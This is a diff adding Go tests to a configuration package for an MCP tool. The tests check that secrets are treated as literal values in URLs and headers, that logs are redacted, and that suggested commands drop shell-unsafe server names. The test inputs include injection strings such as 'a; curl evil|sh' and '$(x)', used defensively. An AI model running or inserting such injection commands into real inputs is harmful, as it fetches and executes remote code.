@@ -3,6 +3,7 @@ package config_test
 import (
 	"encoding/json"
 	"fmt"
+	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
@@ -14,6 +15,7 @@ import (
 	"github.com/toolscript/toolscript"
 	"github.com/toolscript/toolscript/cmd/config"
 	"github.com/toolscript/toolscript/cmd/secrets"
+	"github.com/toolscript/toolscript/transport/mcpclient"
 )
 
 const secretValue = "sesame-open-1234"
@@ -173,6 +175,53 @@ func TestSecretAndVariables(t *testing.T) {
 	}
 	s.env["HOST"] = "evil.example.com"
 	wantNothing(t, s.load())
+}
+
+// TestSecretIsAValue: what a secret contains is not a reference, and in a URL it is only a
+// part of the path or the query.
+func TestSecretIsAValue(t *testing.T) {
+	s := newScene(t)
+	s.env["V"] = "variable"
+	s.write(s.home, `{"mcpServers": {"a": {"url": "https://example.com/${secret:KEY}/mcp?key=${secret:KEY}&v=${V}", "headers": {"X": "${secret:KEY}"}}}}`)
+	const odd = "${V}${secret:KEY}/../%zz?a=b&c #\x01@evil ü"
+	o := s.options
+	o.Identify = true
+	c, err := config.Load(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := c.Identities["a"]
+	store, err := config.SecretStore(s.options)
+	if err == nil {
+		_, _, err = store.Set(t.Context(), secrets.New{Name: "KEY", Value: odd, Storage: secrets.File, Allowed: []secrets.Binding{{Server: "a", File: id.File, Identity: id.Hash}}})
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	server := s.load().Servers["a"]
+	if server.Problem != nil || server.Headers["X"] != odd || server.Secrets["${secret:KEY}"] != odd {
+		t.Errorf("%v, header %q, secrets %q", server.Problem, server.Headers["X"], server.Secrets)
+	}
+	at, err := url.Parse(server.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if at.Host != "example.com" || at.Path != "/"+odd+"/mcp" || at.Query().Get("key") != odd || at.Query().Get("v") != "variable" || at.Fragment != "" {
+		t.Errorf("%q", server.URL)
+	}
+	if text := mcpclient.Redactor(server)("GET " + server.URL); strings.Contains(text, "evil") || !strings.Contains(text, "https://example.com/${secret:KEY}/mcp") {
+		t.Errorf("redacted: %s", text)
+	}
+}
+
+// TestCommandsAreCopied: an error suggests no command with a name that a shell could read
+// as more.
+func TestCommandsAreCopied(t *testing.T) {
+	for name, want := range map[string]string{"git-hub.2": "toolscript secret set KEY --for git-hub.2", "a; curl evil|sh": "toolscript secret set KEY", "$(x)": "toolscript secret set KEY", "-x": "toolscript secret set KEY"} {
+		if got := (config.SecretRequest{Secret: "KEY", Server: name}).Command(); got != want {
+			t.Errorf("%q: %q, want %q", name, got, want)
+		}
+	}
 }
 
 // TestSecretWithoutServer: a secret that is stored for no server is given to none.
